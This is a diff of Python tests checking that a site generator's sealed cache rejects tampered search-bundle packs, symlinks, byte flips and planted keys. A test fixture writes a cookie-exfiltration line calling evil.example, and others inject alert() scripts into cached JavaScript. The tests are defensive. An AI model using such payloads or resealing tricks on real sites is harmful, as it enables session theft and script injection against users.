@@ -116,9 +116,15 @@ def test_a_cache_planted_beside_the_output_is_not_used(
     (checkout / ".git").mkdir(parents=True)
     (checkout / ".git" / "config").write_bytes(b"[remote]\n\ttoken = " + MARKER + b"\n")
     planted = checkout / ".gongkai-cache"
-    for kind in ("pagefind", "opendata-bulk"):
-        for entry in (tmp_path / "seed" / kind).iterdir():
-            _old_layout(entry, planted / kind / entry.name, "12")
+    for entry in (tmp_path / "seed" / "opendata-bulk").iterdir():
+        _old_layout(entry, planted / "opendata-bulk" / entry.name, "12")
+    for pack in (tmp_path / "seed" / "pagefind").iterdir():  # a search bundle as the old cache held it
+        folder = planted / "pagefind" / pack.name.removesuffix(".pack")
+        for name, data in unpack(pack)[1].items():
+            (folder / name).parent.mkdir(parents=True, exist_ok=True)
+            (folder / name).write_bytes(data)
+        (folder / ".note").write_text("12", encoding="utf-8")
+        (folder / ".complete").write_text("", encoding="utf-8")
     for script in planted.glob("pagefind/*/pagefind.js"):
         script.write_bytes(b"fetch('https://evil.example/?'+document.cookie);//" + MARKER)
     for bulk in planted.glob("opendata-bulk/*/decisions.json"):
@@ -137,8 +143,29 @@ def test_a_cache_planted_beside_the_output_is_not_used(
 
 
 def _pagefind_entry(cache: Path) -> Path:
+    """The search bundle's entry: one sealed file (MAC, newline, a JSON header, newline, the files'
+    bytes one after another), ``Cache.store_pack``."""
     (entry,) = (cache / "pagefind").iterdir()
     return entry
+
+
+def unpack(pack: Path) -> tuple[dict[str, object], dict[str, bytes]]:
+    """A pack's header and files, read as an attacker would, without checking its seal."""
+    _mac, _newline, body = pack.read_bytes().partition(b"\n")
+    head, _newline, data = body.partition(b"\n")
+    header = json.loads(head)
+    files, at = {}, 0
+    for name, size in header["files"]:
+        files[name], at = data[at : at + size], at + size
+    return header, files
+
+
+def repack(header: dict[str, object], files: dict[str, bytes], key: bytes) -> bytes:
+    """A pack of ``files`` sealed with ``key``, as ``Cache.store_pack`` writes one."""
+    header = {**header, "files": [[name, len(files[name])] for name in sorted(files)]}
+    body = json.dumps(header, ensure_ascii=False, sort_keys=True).encode("utf-8")
+    body += b"\n" + b"".join(files[name] for name in sorted(files))
+    return hmac.new(key, body, hashlib.sha256).hexdigest().encode("ascii") + b"\n" + body
 
 
 def _bulk_entry(cache: Path) -> Path:
@@ -157,24 +184,24 @@ def _replace(path: Path, data: bytes) -> None:
     path.write_bytes(data)
 
 
-def replace_script_keep_marker(cache: Path, outside: Path) -> None:
-    """pagefind.js replaced, and the old cache's completion marker added for good measure."""
+def replace_script_keep_seal(cache: Path, outside: Path) -> None:
+    """pagefind.js replaced inside the pack by a script of the same length, the seal left as it was."""
     entry = _pagefind_entry(cache)
-    _replace(entry / "pagefind.js", b"alert(document.domain);//" + MARKER)
-    (entry / ".complete").write_text("", encoding="utf-8")
+    header, files = unpack(entry)
+    script = b"alert(document.domain);//" + MARKER
+    files["pagefind.js"] = (script * (len(files["pagefind.js"]) // len(script) + 1))[
+        : len(files["pagefind.js"])
+    ]
+    mac = entry.read_bytes().partition(b"\n")[0]
+    _replace(entry, mac + repack(header, files, b"k" * 32)[len(mac) :])
 
 
 def replace_script_and_reseal_with_another_key(cache: Path, outside: Path) -> None:
-    """pagefind.js replaced and the manifest rewritten to match, sealed with a key not this user's."""
+    """pagefind.js replaced and the pack sealed again, with a key not this user's."""
     entry = _pagefind_entry(cache)
-    script = b"alert(document.domain);//" + MARKER
-    _replace(entry / "pagefind.js", script)
-    _mac, _newline, body = (entry / ENTRY_FILE).read_bytes().partition(b"\n")
-    manifest = json.loads(body)
-    manifest["files"]["pagefind.js"] = [len(script), hashlib.sha256(script).hexdigest()]
-    body = json.dumps(manifest, ensure_ascii=False, sort_keys=True).encode("utf-8")
-    seal = hmac.new(b"k" * 32, body, hashlib.sha256).hexdigest().encode("ascii")
-    _replace(entry / ENTRY_FILE, seal + b"\n" + body)
+    header, files = unpack(entry)
+    files["pagefind.js"] = b"alert(document.domain);//" + MARKER
+    _replace(entry, repack(header, files, b"k" * 32))
 
 
 def link_bulk_file_outside(cache: Path, outside: Path) -> None:
@@ -184,11 +211,11 @@ def link_bulk_file_outside(cache: Path, outside: Path) -> None:
     target.symlink_to(outside)
 
 
-def link_pagefind_folder_outside(cache: Path, outside: Path) -> None:
-    """A whole folder of the search bundle replaced by a link to a folder outside."""
+def link_pagefind_entry_outside(cache: Path, outside: Path) -> None:
+    """The search bundle's pack replaced by a link to a file outside the cache."""
     entry = _pagefind_entry(cache)
-    shutil.rmtree(entry / "fragment")
-    (entry / "fragment").symlink_to(outside.parent, target_is_directory=True)
+    entry.unlink()
+    entry.symlink_to(outside)
 
 
 def fifo_in_bulk_entry(cache: Path, outside: Path) -> None:
@@ -199,13 +226,13 @@ def fifo_in_bulk_entry(cache: Path, outside: Path) -> None:
 
 
 def flip_a_byte(cache: Path, outside: Path) -> None:
-    """Disk damage: one byte flipped in place in a cached SQLite file, a search fragment, the
+    """Disk damage: one byte flipped in place in a cached SQLite file, the search bundle's pack, the
     theme's script, every compiled template and every unit's and package's sealed file (rule
     outcomes, typed rows, zips' hashes)."""
     flip_middle_bytes(
         [
             _bulk_entry(cache) / "gongkai.db",
-            sorted(_pagefind_entry(cache).glob("fragment/*"))[0],
+            _pagefind_entry(cache),
             _theme_entry(cache) / "assets" / "gongkai.js",
             *sorted(cache.glob("template-*")),
             *sorted(cache.glob("rules-*")),
@@ -223,19 +250,17 @@ def plant_a_key_and_entries_sealed_with_it(cache: Path, outside: Path) -> None:
     (cache / KEY_FILE).write_text(known.hex(), encoding="utf-8")
     os.chmod(cache / KEY_FILE, 0o644)
     entry = _pagefind_entry(cache)
-    staged = outside.parent / "resealed"
-    shutil.copytree(entry, staged)
-    _replace(staged / "pagefind.js", b"alert(1);//" + MARKER)
-    (staged / ENTRY_FILE).unlink()
-    Cache(cache, known).store("pagefind", entry.name, staged, note="12")
+    header, files = unpack(entry)
+    files["pagefind.js"] = b"alert(1);//" + MARKER
+    Cache(cache, known).store_pack("pagefind", str(header["key"]), files, note="12")
 
 
 #: Each way of altering the cache, and whether it altered the search bundle's entry.
 TAMPERING = [
-    (replace_script_keep_marker, True),
+    (replace_script_keep_seal, True),
     (replace_script_and_reseal_with_another_key, True),
     (link_bulk_file_outside, False),
-    (link_pagefind_folder_outside, True),
+    (link_pagefind_entry_outside, True),
     (fifo_in_bulk_entry, False),
     (flip_a_byte, True),
     (plant_a_key_and_entries_sealed_with_it, True),
